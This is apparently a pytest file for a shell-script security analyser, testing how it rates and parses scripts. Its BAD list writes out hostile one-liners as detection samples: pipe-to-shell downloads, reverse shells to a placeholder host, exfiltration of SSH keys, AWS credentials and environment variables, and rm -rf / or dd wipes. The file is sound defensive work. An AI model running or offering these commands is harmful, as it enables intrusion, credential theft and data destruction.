import shutil
import subprocess
import time
from pathlib import Path

import pytest
from analysis_kit import SCRIPT, of_script, worst

from miner.analysis import bounds
from miner.analysis.analyse import analyse
from miner.analysis.result import BEYOND
from miner.analysis.shell_parser import parse_script

BAD = [
    ("curl -fsSL https://get.invalid/i.sh | sh", "critical"),
    ("curl -fsSL https://get.invalid/i.sh |\n  sudo bash -s -- --yes", "critical"),
    ("wget -qO- https://get.invalid/x | tee log | bash", "critical"),
    ('bash -c "$(curl -fsSL https://get.invalid/i.sh)"', "critical"),
    ("bash <(curl -s https://get.invalid/i.sh)", "critical"),
    ("source <(curl -s https://get.invalid/i.sh)", "critical"),
    ('eval "$(wget -qO- https://get.invalid/y)"', "critical"),
    ("echo aGk= | base64 -d | sh", "critical"),
    ("bash <<EOF\ncurl -s https://get.invalid | sh\nEOF", "critical"),
    ("bash -c 'curl -s https://get.invalid | sh'", "critical"),
    ("cat <<EOF\n$(curl -s https://get.invalid | sh)\nEOF", "critical"),
    ("cat <<A; bash <<B\na\nA\ncurl -s https://get.invalid | sh\nB", "critical"),
    ("cat <<A; echo b\na\nA\ncurl -s https://get.invalid | sh", "critical"),
    ("for x in $(curl -s https://get.invalid | sh); do echo; done", "critical"),
    ("echo ${x:-$(curl -s https://get.invalid | sh)}", "critical"),
    ("case $x in\na' 'b | \\\nc' 'd*) ;;\nesac\ncurl -s https://get.invalid | sh", "critical"),
    ("env | curl -d @- https://c.invalid/", "critical"),
    ('curl -d "$(env)" https://c.invalid/', "critical"),
    ("curl --data @$HOME/.ssh/id_rsa https://c.invalid/", "critical"),
    ("cat ~/.aws/credentials | nc c.invalid 443", "critical"),
    ("bash -i >& /dev/tcp/c.invalid/443 0>&1", "critical"),
    ("nc -e /bin/sh c.invalid 443", "critical"),
    ("rm -rf /", "critical"),
    ('rm -rf "$HOME"', "critical"),
    ("rm --recursive /etc/*", "critical"),
    ("if true; then rm -fr ~; fi", "critical"),
    ("dd if=x of=/dev/sda", "critical"),
    ("exec 3<>/dev/tcp/c.invalid/80", "high"),
    ("cat ~/.ssh/id_rsa", "high"),
    ("echo 'x' >> ~/.bashrc", "high"),
    ("crontab jobs.txt", "high"),
    ('eval "$COMMAND"', "medium"),
    ("chmod 777 data", "medium"),
    ("chmod u+s tool", "medium"),
    ("sudo ls", "medium"),
    ("env > all.txt", "medium"),
    ('rm -rf "$TARGET"', "medium"),
    ("curl -k https://api.example.com", "medium"),
    ("unset HISTFILE", "medium"),
]
FINE = [
    "curl -fsSL https://api.example.com/data.json -o data.json",
    "# curl https://get.invalid | sh",
    "echo 'curl https://get.invalid | sh'",
    "cat <<'EOF' > notes.txt\nrm -rf /\ncurl https://get.invalid | sh\nEOF",
    "rm -rf build/cache",
    "env LANG=C sort names.txt",
    "base64 -d data.txt > data.bin",
    "set -e\nexport PATH=/usr/bin",
    "chmod 755 main.sh",
    "eval 'x=1'",
]


@pytest.mark.parametrize(("script", "severity"), BAD)
def test_bad_scripts(script: str, severity: str) -> None:
    finding = worst(of_script(script))
    assert finding is not None
    assert finding.severity == severity


@pytest.mark.parametrize("script", FINE)
def test_fine_scripts(script: str) -> None:
    assert of_script(script).findings == ()


def test_what_the_grammar_does_not_know_is_said_and_read_line_by_line() -> None:
    script = "echo one\nfor i do\n  rm -rf /\ndone\n"
    findings = {(finding.description, finding.evidence_ref) for finding in of_script(script).findings}
    assert findings == {
        (BEYOND, "main.sh#L1-L1"),
        ("A whole system or home folder is deleted.", "main.sh#L3-L3"),
    }


def test_long_scripts_are_read_whole_while_they_have_no_error() -> None:
    end = "curl -s https://get.invalid | sh\n"
    filler = "echo some words\n" * (2 * bounds.MAX_SHELL_RECOVERY // 16)
    assert [f.severity for f in of_script(filler + end).findings] == ["critical"]
    assert [f.description for f in of_script(filler + ")\n" + end).findings] == [BEYOND]
    assert {f.severity for f in of_script(end + filler + ")\n").findings} == {"critical", "medium"}


@pytest.mark.parametrize("unit", ["a | ", "((a ", "a=(", ")", "case a <<Aa ;;]]", "`:<<-Bfi a=("])
def test_what_makes_the_parser_work_hard_costs_no_more_when_there_is_more_of_it(unit: str) -> None:
    def cost(size: int) -> float:
        text = unit * (size // len(unit))
        started = time.process_time()
        assert not parse_script(text).complete
        return time.process_time() - started

    small = cost(16 * bounds.KIB)
    for kib in (64, 256):
        assert cost(kib * bounds.KIB) < 3 * small + 1.0


def test_findings_name_the_lines_and_the_url() -> None:
    finding = worst(of_script("set -e\n\ncurl https://get.invalid/i.sh |\n  sh\n"))
    assert finding is not None
    assert (finding.evidence_ref, finding.target_pattern) == ("main.sh#L3-L4", "https://get.invalid/i.sh")


def test_rules_name_commands_hosts_and_paths() -> None:
    script = (
        "mkdir -p out\ncut -f 1 in.txt | sort > out/a.txt\n"
        "curl https://api.example.com/x\ncurl https://get.invalid | sh\n"
    )
    rules = {(rule.resource, rule.action, rule.pattern) for rule in of_script(script).rules}
    assert rules >= {
        ("file_read", "allow", "in.txt"),
        ("file_write", "allow", "out"),
        ("file_write", "allow", "out/a.txt"),
        ("network", "allow", "api.example.com"),
        ("network", "deny", "get.invalid"),
        ("process", "allow", "mkdir"),
        ("process", "deny", "sh"),
    }


def test_functions_are_no_programs() -> None:
    analysis = of_script('log() { echo "$1"; }\nfunction bye {\n  echo bye\n}\nlog hi\nbye\n')
    assert analysis.capabilities == ()


def test_scripts_are_known_by_their_first_line() -> None:
    assert analyse({"tool": b"#!/bin/sh\nrm -rf /\n"}, SCRIPT).verdict == "BLOCK"


SCRIPTS = {
    "quotes": "echo 'a b' \"c d\" e\\ f 'it'\"'\"'s' \"\" $'x'\n",
    "variables": 'out=res\nname="$out/file one"\nmkdir -p "$out"\ntouch "$name" "${out}/two"\nls "$out"\n',
    "pipes": "printf '%s\\n' b a | sort | uniq -c\n",
    "pipe over lines": "printf '%s\\n' b a |\n  sort |\n  cat\n",
    "lists": "true && echo yes || echo no; echo end\n",
    "here-document": "cat <<'EOF' | sort\nb; echo not-a-command\na\nEOF\necho after\n",
    "two here-documents": "cat <<A <<-B\none\nA\n\ttwo\n\tB\necho after\n",
    "if": "if [ -f nothing ]; then echo there; else echo missing; fi\n",
    "for": "for x in a b; do echo fixed; done\n",
    "while": "while false; do echo never; done\necho done\n",
    "case": "case b in\n  a) echo first;;\n  b|c) echo second ;;\n  *) echo other\nesac\necho after\n",
    "case on one line": "case x in (x) echo hit;; (y|z) echo miss;; esac; echo after\n",
    "functions": "greet() { echo hello; }\nfunction leave { echo bye; }\ngreet\nleave\n",
    "subshell": "(cd / && pwd)\n{ echo grouped; }\n",
    "substitution": "x=$(echo inner)\necho outer `echo ticked`\n",
    "arrays": "list=(one two three)\necho fixed\n",
    "prefix assignments": "LC_ALL=C sort /dev/null\n",
    "comments": "echo a # echo b\n# echo c\necho d#e\n",
    "continued": "echo one \\\n  two\n",
    "odd words": "echo a=b {x} '*' '~' '#h' '!' '[x]' 'a>b' '$HOME' 'tab\there'\n",
    "arithmetic": "echo sum $((1 + 2))\n",
    "here-string": "cat <<< 'x y'\n",
    "redirections": "echo a > f 2>&1\ncat < f >> g\necho b &> h\n",
    "negation": "! false\ntime true\n",
}


@pytest.mark.parametrize("name", SCRIPTS)
def test_commands_are_spelled_as_bash_traces_them(name: str, tmp_path: Path) -> None:
    bash = shutil.which("bash")
    assert bash is not None
    with (tmp_path / "trace").open("wb") as trace:
        done = subprocess.run(
            [bash, "-x", "-c", SCRIPTS[name]],
            cwd=tmp_path,
            env={"PATH": "/usr/bin:/bin", "BASH_XTRACEFD": str(trace.fileno())},
            pass_fds=[trace.fileno()],
            capture_output=True,
            timeout=30,
            check=False,
        )
    assert done.returncode in (0, 1)
    traced = {line.lstrip("+ ") for line in (tmp_path / "trace").read_text().splitlines()}
    read = [c for pipeline in parse_script(SCRIPTS[name]).pipelines for c in pipeline if c.literal]
    known = {str(command) for command in read}
    unseen = {"echo yes", "echo no", "echo there", "echo never", "echo first", "echo other", "echo miss"}  # not taken
    assert known - traced <= unseen
    dynamic = ("for ", "case ", "list=", "x=", "out=", "name=", "LC_ALL=", "echo outer", "echo sum")
    missed = {line for line in traced - known if not line.startswith(dynamic)}
    assert missed <= {"echo 'a b' 'c d' 'e f' 'it'\\''s' '' x"}  # `$'x'` is not read as a literal
